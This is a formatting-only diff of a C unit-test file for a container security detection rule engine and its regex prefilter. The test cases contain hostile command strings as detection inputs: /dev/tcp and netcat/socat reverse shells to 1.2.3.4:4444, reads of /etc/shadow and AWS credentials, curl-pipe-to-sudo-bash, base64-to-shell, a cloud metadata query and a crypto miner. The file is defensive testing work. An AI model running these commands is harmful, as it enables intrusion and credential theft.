@@ -19,7 +19,8 @@
 #include "../../enrich/rules.h"
 #include "../../enrich/rules_builtin.h"
 
-static facts container_exec(const char *binary, const char *args) {
+static facts container_exec(const char *binary, const char *args)
+{
     facts fx;
     facts_clear(&fx);
     fx.f[F_KIND] = "process_exec";
@@ -37,13 +38,16 @@ static facts container_exec(const char *binary, const char *args) {
     return fx;
 }
 
-static int matched(const verdict *v, const char *name) {
+static int matched(const verdict *v, const char *name)
+{
     for (size_t i = 0; i < v->nmatched; i++)
-        if (strcmp(v->matched[i]->name, name) == 0) return 1;
+        if (strcmp(v->matched[i]->name, name) == 0)
+            return 1;
     return 0;
 }
 
-static void eval_builtin(const facts *fx, verdict *v, ruleset *rs) {
+static void eval_builtin(const facts *fx, verdict *v, ruleset *rs)
+{
     char err[256];
     ck_assert_msg(rules_load_builtin(rs, err, sizeof err) == 0, "%s", err);
     rules_eval(rs, fx, v);
@@ -55,13 +59,18 @@ START_TEST(parse_errors_say_what)
     char err[256];
     ck_assert_int_eq(rules_add_line(&rs, "name=x severity=high", "t", err, sizeof err), -1);
     ck_assert_ptr_nonnull(strstr(err, "no condition"));
-    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=urgent binary=/a", "t", err, sizeof err), -1);
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=urgent binary=/a", "t", err, sizeof err),
+                     -1);
     ck_assert_ptr_nonnull(strstr(err, "urgent"));
-    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low color=red", "t", err, sizeof err), -1);
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low color=red", "t", err, sizeof err),
+                     -1);
     ck_assert_ptr_nonnull(strstr(err, "color"));
-    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low binary~=(a", "t", err, sizeof err), -1);
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low binary~=(a", "t", err, sizeof err),
+                     -1);
     ck_assert_ptr_nonnull(strstr(err, "regex"));
-    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low technique=X1 binary=/a", "t", err, sizeof err), -1);
+    ck_assert_int_eq(
+        rules_add_line(&rs, "name=x severity=low technique=X1 binary=/a", "t", err, sizeof err),
+        -1);
     ck_assert_int_eq(rules_add_line(&rs, "name=\"x severity=low", "t", err, sizeof err), -1);
     ck_assert_ptr_nonnull(strstr(err, "quote"));
     /* found by fuzzing: a refused line took its disable= with it only
@@ -69,12 +78,15 @@ START_TEST(parse_errors_say_what)
     ck_assert_int_eq(rules_add_line(&rs, "disable=shell-in-container oops", "t", err, sizeof err),
                      -1);
     ck_assert_uint_eq(rs.ndisabled, 0);
-    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low binary~=d++++++++++++++++++++"
-                                         "++++++++++++++++++++++++++++++++++++++++",
-                                     "t", err, sizeof err), -1);
+    ck_assert_int_eq(rules_add_line(&rs,
+                                    "name=x severity=low binary~=d++++++++++++++++++++"
+                                    "++++++++++++++++++++++++++++++++++++++++",
+                                    "t", err, sizeof err),
+                     -1);
     ck_assert_ptr_nonnull(strstr(err, "repeats too much"));
     ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low binary~=((a{100}){100}){100}", "t",
-                                    err, sizeof err), -1);
+                                    err, sizeof err),
+                     -1);
     ck_assert_int_eq(rules_add_line(&rs, "  # a comment", "t", err, sizeof err), 0);
     ck_assert_int_eq(rules_add_line(&rs, "", "t", err, sizeof err), 0);
     ck_assert_uint_eq(rs.n, 0);
@@ -86,9 +98,10 @@ START_TEST(conditions_and_quotes)
 {
     ruleset rs = RULESET_INIT;
     char err[256];
-    const char *line = "name=r1 kind=process_exec binary~=/curl$ args!~\"--version\" severity=high"
-                       " technique=T1105 technique_name=\"Ingress Tool Transfer\" tactic=command-and-control"
-                       " summary=\"${binary} in ${namespace}/${workload}\" next=\"a step\"";
+    const char *line =
+        "name=r1 kind=process_exec binary~=/curl$ args!~\"--version\" severity=high"
+        " technique=T1105 technique_name=\"Ingress Tool Transfer\" tactic=command-and-control"
+        " summary=\"${binary} in ${namespace}/${workload}\" next=\"a step\"";
     ck_assert_msg(rules_add_line(&rs, line, "t:1", err, sizeof err) == 0, "%s", err);
     facts fx = container_exec("/usr/bin/curl", "http://x");
     verdict v;
@@ -114,8 +127,10 @@ START_TEST(user_final_rule_silences_builtin)
 {
     ruleset rs = RULESET_INIT;
     char err[256];
-    ck_assert_int_eq(rules_add_line(&rs, "name=allow-ops workload=web binary=/bin/bash severity=info final",
-                                    "user:1", err, sizeof err), 0);
+    ck_assert_int_eq(
+        rules_add_line(&rs, "name=allow-ops workload=web binary=/bin/bash severity=info final",
+                       "user:1", err, sizeof err),
+        0);
     facts fx = container_exec("/bin/bash", "");
     verdict v;
     eval_builtin(&fx, &v, &rs);
@@ -125,7 +140,8 @@ START_TEST(user_final_rule_silences_builtin)
     rules_eval(&rs, &fx, &v);
     ck_assert_int_eq(v.severity, SEV_MEDIUM);
     ck_assert(matched(&v, "shell-in-container"));
-    ck_assert_int_eq(rules_add_line(&rs, "disable=shell-in-container", "user:2", err, sizeof err), 0);
+    ck_assert_int_eq(rules_add_line(&rs, "disable=shell-in-container", "user:2", err, sizeof err),
+                     0);
     rules_eval(&rs, &fx, &v);
     ck_assert_int_eq(v.severity, SEV_INFO);
     rules_free(&rs);
@@ -160,8 +176,10 @@ START_TEST(attacks_get_their_severity)
         int sev;
         const char *tech;
     } cases[] = {
-        {"/bin/bash", "-c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\"", "reverse-shell-dev-tcp", SEV_CRITICAL, "T1059.004"},
-        {"/usr/bin/nc", "-e /bin/sh 1.2.3.4 4444", "reverse-shell-netcat-exec", SEV_CRITICAL, "T1059.004"},
+        {"/bin/bash", "-c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\"", "reverse-shell-dev-tcp",
+         SEV_CRITICAL, "T1059.004"},
+        {"/usr/bin/nc", "-e /bin/sh 1.2.3.4 4444", "reverse-shell-netcat-exec", SEV_CRITICAL,
+         "T1059.004"},
         {"/usr/bin/masscan", "-p1-65535 10.0.0.0/8", "network-scanner", SEV_HIGH, "T1046"},
         {"/bin/cat", "/etc/shadow", "shadow-read", SEV_HIGH, "T1003.008"},
         {"/usr/bin/xmrig", "--donate-level 1", "crypto-miner-binary", SEV_CRITICAL, "T1496"},
@@ -179,7 +197,8 @@ START_TEST(attacks_get_their_severity)
         snprintf(any, sizeof any, "%s %s | ", cases[i].binary, cases[i].args);
         fx.f[F_ANY] = any;
         rules_eval(&rs, &fx, &v);
-        ck_assert_msg(matched(&v, cases[i].rule), "%s: %s did not match", cases[i].binary, cases[i].rule);
+        ck_assert_msg(matched(&v, cases[i].rule), "%s: %s did not match", cases[i].binary,
+                      cases[i].rule);
         ck_assert_int_eq(v.severity, cases[i].sev);
         int found = 0;
         for (size_t j = 0; j < v.nmatched; j++)
@@ -248,7 +267,8 @@ START_TEST(builtin_rules_all_complete)
 }
 END_TEST
 
-static void lits_are(const char *re, const char *want) {
+static void lits_are(const char *re, const char *want)
+{
     prefilter pf;
     char got[512] = "";
     ck_assert_int_eq(prefilter_compile(re, &pf), 0);
@@ -264,21 +284,22 @@ START_TEST(prefilter_literals)
 {
     lits_are("/etc/cron|/var/spool/cron|(^|/)crontab( |$)", "/etc/cron,/var/spool/cron,crontab");
     lits_are("/(nc|ncat|nc[.]openbsd)$", "nc,ncat,nc.openbsd");
-    lits_are("/(ba|da|z)?sh$", "sh");                  /* optional group offers nothing */
+    lits_are("/(ba|da|z)?sh$", "sh"); /* optional group offers nothing */
     lits_are("169[.]254[.]169[.]254", "169.254.169.254");
-    lits_are("base64 +-d", "base64 ");                 /* x+ needs one x */
-    lits_are("abc?d", "ab");                           /* c? is optional */
+    lits_are("base64 +-d", "base64 "); /* x+ needs one x */
+    lits_are("abc?d", "ab");           /* c? is optional */
     lits_are("ab{0,2}cd", "cd");
     lits_are("a\\.b", "a.b");
     lits_are("(^| )-[a-z]*[ce]( |$)", "-");
-    lits_are("x|[0-9]+", "");                          /* a branch without literal: none */
+    lits_are("x|[0-9]+", ""); /* a branch without literal: none */
     lits_are("(a|)b", "b");
-    lits_are("\\<word", "word");                       /* GNU anchor, not a literal */
+    lits_are("\\<word", "word"); /* GNU anchor, not a literal */
     lits_are("[]x]yz|[^y]q", "yz,q");
 }
 END_TEST
 
-static int exact(const char *re) {
+static int exact(const char *re)
+{
     prefilter pf;
     ck_assert_int_eq(prefilter_compile(re, &pf), 0);
     int e = pf.exact;
@@ -294,7 +315,7 @@ START_TEST(prefilter_exact)
     ck_assert(exact("CAP_SYS_ADMIN"));
     ck_assert(!exact("a.b"));
     ck_assert(!exact("/nsenter$"));
-    ck_assert(!exact("a|"));            /* an empty branch matches everything */
+    ck_assert(!exact("a|")); /* an empty branch matches everything */
     ck_assert(!exact("|a"));
     ck_assert(!exact("(a|b)"));
     ck_assert(!exact("a\\|b"));
@@ -311,25 +332,47 @@ START_TEST(prefilter_never_hides_a_match)
     char err[256];
     ck_assert_int_eq(rules_load_builtin(&rs, err, sizeof err), 0);
     static const char *const texts[] = {
-        "/bin/bash", "/usr/bin/nc -e /bin/sh 1.2.3.4 4444", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
-        "/usr/bin/python3 -c import socket", "cat /etc/shadow", "/etc/cron.d/x", "crontab -l",
-        "sock tcp 10.0.0.1:4000 -> 1.2.3.4:4444", "/usr/sbin/insmod x.ko", "nsenter -t 1 -m sh",
-        "curl http://169.254.169.254/latest", "chmod u+s /tmp/x", "chmod 4755 /tmp/x",
-        "tar czf /tmp/a.tgz /etc", "xmrig --donate-level 1", "rm -f /root/.bash_history",
-        "echo x | base64 -d | sh", "curl -s http://x | sudo bash", "cap CAP_SYS_ADMIN",
-        "/run/containerd/containerd.sock", "cat ~/.aws/credentials", "id_rsa .ssh/id_rsa",
-        "", "a", "/", "-", "plain text with nothing", "ssh user@host:/x", "socat exec:/bin/sh",
+        "/bin/bash",
+        "/usr/bin/nc -e /bin/sh 1.2.3.4 4444",
+        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+        "/usr/bin/python3 -c import socket",
+        "cat /etc/shadow",
+        "/etc/cron.d/x",
+        "crontab -l",
+        "sock tcp 10.0.0.1:4000 -> 1.2.3.4:4444",
+        "/usr/sbin/insmod x.ko",
+        "nsenter -t 1 -m sh",
+        "curl http://169.254.169.254/latest",
+        "chmod u+s /tmp/x",
+        "chmod 4755 /tmp/x",
+        "tar czf /tmp/a.tgz /etc",
+        "xmrig --donate-level 1",
+        "rm -f /root/.bash_history",
+        "echo x | base64 -d | sh",
+        "curl -s http://x | sudo bash",
+        "cap CAP_SYS_ADMIN",
+        "/run/containerd/containerd.sock",
+        "cat ~/.aws/credentials",
+        "id_rsa .ssh/id_rsa",
+        "",
+        "a",
+        "/",
+        "-",
+        "plain text with nothing",
+        "ssh user@host:/x",
+        "socat exec:/bin/sh",
     };
     for (size_t i = 0; i < rs.n; i++)
         for (int c = 0; c < rs.v[i].ncond; c++) {
             const rule_cond *rc = &rs.v[i].cond[c];
-            if (rc->op != COND_RE && rc->op != COND_NRE) continue;
+            if (rc->op != COND_RE && rc->op != COND_NRE)
+                continue;
             for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++) {
                 int m = regexec(&rc->re, texts[t], 0, NULL, 0) == 0;
                 if (m)
-                    ck_assert_msg(prefilter_may_match(&rc->pf, texts[t]), "%s hides %s",
-                                  rc->value, texts[t]);
-                if (rc->pf.exact)   /* then the literals decide alone */
+                    ck_assert_msg(prefilter_may_match(&rc->pf, texts[t]), "%s hides %s", rc->value,
+                                  texts[t]);
+                if (rc->pf.exact) /* then the literals decide alone */
                     ck_assert_msg(prefilter_may_match(&rc->pf, texts[t]) == m, "%s exact on %s",
                                   rc->value, texts[t]);
             }
@@ -348,16 +391,29 @@ START_TEST(prepared_scan_agrees_with_strstr)
     ck_assert_int_eq(rules_load_builtin(&rs, err, sizeof err), 0);
     ck_assert_ptr_nonnull(rs.scan);
     static const char *const texts[] = {
-        "/usr/bin/nc -e /bin/sh 1.2.3.4 4444", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "/bin/sh",
-        "cat /etc/shadow", "/etc/cron.d/x", "sock tcp 10.0.0.1:4000 -> 1.2.3.4:4444", "nsenter -t 1 -m sh",
-        "curl http://169.254.169.254/latest", "chmod u+s /tmp/x", "echo x | base64 -d | sh", "yes", "",
-        "cap CAP_SYS_ADMIN", "/run/containerd/containerd.sock", "/usr/sbin/insmod x.ko", "process_exec",
+        "/usr/bin/nc -e /bin/sh 1.2.3.4 4444",
+        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+        "/bin/sh",
+        "cat /etc/shadow",
+        "/etc/cron.d/x",
+        "sock tcp 10.0.0.1:4000 -> 1.2.3.4:4444",
+        "nsenter -t 1 -m sh",
+        "curl http://169.254.169.254/latest",
+        "chmod u+s /tmp/x",
+        "echo x | base64 -d | sh",
+        "yes",
+        "",
+        "cap CAP_SYS_ADMIN",
+        "/run/containerd/containerd.sock",
+        "/usr/sbin/insmod x.ko",
+        "process_exec",
     };
     for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++)
         for (int field = -1; field < F_NFIELDS; field++) {
             facts fx = container_exec("/bin/true", "");
             for (int f = 0; f < F_NFIELDS; f++)
-                if (field < 0 || f == field) fx.f[f] = texts[t];
+                if (field < 0 || f == field)
+                    fx.f[f] = texts[t];
             verdict a, b;
             rules_eval(&rs, &fx, &a);
             rules_scan *keep = rs.scan;
@@ -366,8 +422,8 @@ START_TEST(prepared_scan_agrees_with_strstr)
             rs.scan = keep;
             ck_assert_uint_eq(a.nmatched, b.nmatched);
             for (size_t i = 0; i < a.nmatched; i++)
-                ck_assert_msg(a.matched[i] == b.matched[i], "[%s] in field %d: %s vs %s", texts[t], field,
-                              a.matched[i]->name, b.matched[i]->name);
+                ck_assert_msg(a.matched[i] == b.matched[i], "[%s] in field %d: %s vs %s", texts[t],
+                              field, a.matched[i]->name, b.matched[i]->name);
         }
     rules_free(&rs);
 }
@@ -390,7 +446,8 @@ START_TEST(rules_file_reports_line)
 }
 END_TEST
 
-static void add_tests(TCase *tc) {
+static void add_tests(TCase *tc)
+{
     tcase_add_test(tc, parse_errors_say_what);
     tcase_add_test(tc, conditions_and_quotes);
     tcase_add_test(tc, user_final_rule_silences_builtin);
@@ -405,6 +462,7 @@ static void add_tests(TCase *tc) {
     tcase_add_test(tc, prepared_scan_agrees_with_strstr);
 }
 
-int main(void) {
+int main(void)
+{
     return check_main("enrich_rules", add_tests);
 }
